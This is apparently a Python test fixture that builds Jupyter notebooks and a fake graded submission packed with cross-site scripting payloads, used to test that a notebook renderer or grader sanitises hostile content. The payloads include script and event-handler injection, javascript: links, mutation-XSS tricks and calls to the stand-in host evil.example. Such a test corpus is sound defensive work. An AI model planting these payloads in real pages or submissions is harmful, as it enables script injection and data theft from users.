"""Notebook contents that try to run something in the reader's browser."""

from __future__ import annotations

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

RUN = "document.title='owned';window.owned=1;alert(1);fetch('https://evil.example/ran')"

HTML = [
    f"<script>{RUN}</script>",
    '<script src="https://evil.example/x.js"></script>',
    f'<img src=x onerror="{RUN}">',
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png">',
    '<img srcset="https://evil.example/pixel.png 1x">',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    f'<svg onload="{RUN}"></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>',
    '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><a href="x">x</a>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    '<div style="background-color:u\\72l(https://evil.example/x.png)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">10/10</div>',
    '<p style="margin: -900px 0 0 0">10/10</p>',
    f'<a href="javascript:{RUN}" id="link">x</a>',
    f'<a href="JaVaScRiPt:{RUN}">x</a>',
    f'<a href="java&#9;script:{RUN}">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    f'<form action="https://evil.example/"><input name="x" autofocus onfocus="{RUN}"><button>x</button></form>',
    f'<video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}"></audio>',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<body onload="{RUN}"><marquee onstart="{RUN}">x</marquee>',
    f'<table background="https://evil.example/x.png"><tr><td background="https://evil.example/x.png">{"x"}</td></tr></table>',
    '<div id="toy_forward" name="toy_forward" class="navbar-fixed-top modal">x</div>',
    f"<script type='text/x-mathjax-config'>{RUN}</script>",
    f"<script type='text/x-mathjax-config;executed=false'>{RUN}</script><div class='MathJax_Preview'>x</div>",
    f"</textarea></title></style></script><script>{RUN}</script>",
    f"<xmp><script>{RUN}</script></xmp><plaintext><script>{RUN}</script>",
    f"<template><script>{RUN}</script></template><slot onslotchange='{RUN}'></slot>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->",
    f"<b\nonmouseover\n=\n{RUN}>x</b>",
]

MARKDOWN = [
    f"[click](javascript:{RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x](x.png"onerror="alert(1))',
    "![x](attachment:a.png)",
    f"$\\href{{javascript:{RUN}}}{{x}}$ and $$\\unicode{{x<img src=x onerror={RUN}>}}$$",
    f"$x<img src=x onerror={RUN}>$",
    f"$$ \\begin{{align}} </script><script>{RUN}</script> \\end{{align}} $$",
    f"\\begin{{equation}}<svg onload={RUN}>\\end{{equation}}",
    f"```html\n</code></pre><script>{RUN}</script>\n```",
    f'```"><script>{RUN}</script>\nx\n```',
    f"`</code><script>{RUN}</script>`",
    f"# <img src=x onerror={RUN}>",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    '<a href="#" onclick="alert(1)">x</a>\n\n<details open ontoggle=alert(1)>x</details>',
]


def hostile_notebook() -> NotebookNode:
    """All of it in one notebook: Markdown, outputs of every kind, attachments and metadata."""
    bundles = [{"text/html": text} for text in HTML] + [{"text/markdown": text} for text in MARKDOWN]
    bundles += [
        {"application/javascript": RUN},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(1)</script>"}},
        {"application/vnd.vegalite.v4+json": {"x": 1}, "text/plain": "chart"},
        {"application/pdf": "x", "text/vnd.mermaid": f"graph TD; A[<img src=x onerror={RUN}>]"},
        {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'},
        {"image/png": f'x" onerror="{RUN}'},
        {"image/png": "iVBORw0KGgo=", "text/plain": "figure"},
        {"text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$</script><script>{RUN}</script>"},
        {"text/plain": f"<script>{RUN}</script>"},
    ]
    outputs = [new_output("display_data", data=data) for data in bundles]
    outputs.append(
        new_output(
            "display_data",
            data={"image/png": "iVBORw0KGgo="},
            metadata={"image/png": {"width": f"1 onerror={RUN}", "height": 3, "alt": f'"><script>{RUN}</script>'}},
        )
    )
    isolated = {"text/html": {"isolated": True}, "filenames": {"image/png": f'x" onerror="{RUN}'}}
    outputs.append(new_output("display_data", data={"text/html": HTML[0]}, metadata=isolated))
    outputs.append(new_output("stream", name="stdout", text=f"\x1b[31m<script>{RUN}</script>\x1b[0m"))
    outputs.append(
        new_output("error", ename="<b>", evalue=f"<script>{RUN}</script>", traceback=[f"<script>{RUN}</script>"])
    )
    attachments = {"a.png": {"image/png": f'x" onerror="{RUN}', "text/html": HTML[0]}}
    cells = [new_markdown_cell(text, attachments=attachments) for text in (*MARKDOWN, *HTML)]
    cells.append(new_raw_cell(HTML[0], metadata={"raw_mimetype": "text/html"}))
    cells.append(
        new_code_cell(
            f"# </pre><script>{RUN}</script>",
            outputs=outputs,
            metadata={"tags": [f'"><script>{RUN}</script>'], "magics_language": f'"><script>{RUN}</script>'},
        )
    )
    graded = {
        "grade_id": f'"><script>{RUN}</script>',
        "grade": True,
        "solution": False,
        "points": 1,
        "schema_version": 3,
    }
    cells.append(new_code_cell("x", metadata={"nbgrader": {**graded, "locked": True, "task": False}}))
    widgets = {"application/vnd.jupyter.widget-state+json": {"x": "</script><script>alert(1)</script>"}}
    metadata = {
        "widgets": widgets,
        "title": f"<script>{RUN}</script>",
        "language_info": {"name": f'"><script>{RUN}</script>', "pygments_lexer": f'"><script>{RUN}</script>'},
    }
    return new_notebook(cells=cells, metadata=metadata)


SCRIPT = f"</td></pre><script>{RUN}</script><img src=x onerror={RUN}>"
SOLUTIONS = {
    "gradient_descent_solution": f"def gradient_descent(grad, w0, lr, steps):\n    return {SCRIPT!r}",
    "minibatches_solution": f"def minibatches(n, batch_size, seed):\n    raise ValueError({SCRIPT!r})",
    "momentum_step_solution": f"import torch\nmomentum_step = torch.optim.SGD  # {SCRIPT}",
    "rmsprop_step_solution": f"def rmsprop_step(w, *others):\n    return eval('w'), {SCRIPT!r}  # {SCRIPT}",
}
SHOW = f"""from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
for text in {HTML!r}: display(HTML(text))
for text in {MARKDOWN!r}: display(Markdown(text))
display(Javascript({RUN!r}), Latex({MARKDOWN[8]!r}))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'))
sizes = {{"image/png": {{"width": {RUN!r}}}}}
display({{"image/png": "iVBORw0KGgo=", "text/html": {HTML[0]!r}}}, raw=True, metadata=sizes)
print({SCRIPT!r})
raise ValueError({SCRIPT!r})
"""


def hostile_submission(released: NotebookNode) -> NotebookNode:
    """A released notebook of optimizers with hostile solutions, answers, outputs and cells."""
    for cell in released.cells:
        grading = cell.metadata.get("nbgrader", {})
        cell.source = SOLUTIONS.get(grading.get("grade_id"), cell.source)
        if cell.cell_type == "markdown" and grading.get("solution"):
            cell.source = "\n\n".join([*MARKDOWN, *HTML])
    hostile = hostile_notebook()
    released.cells += [*hostile.cells[:-1], new_code_cell(SHOW)]
    released.metadata.update(hostile.metadata)
    return released
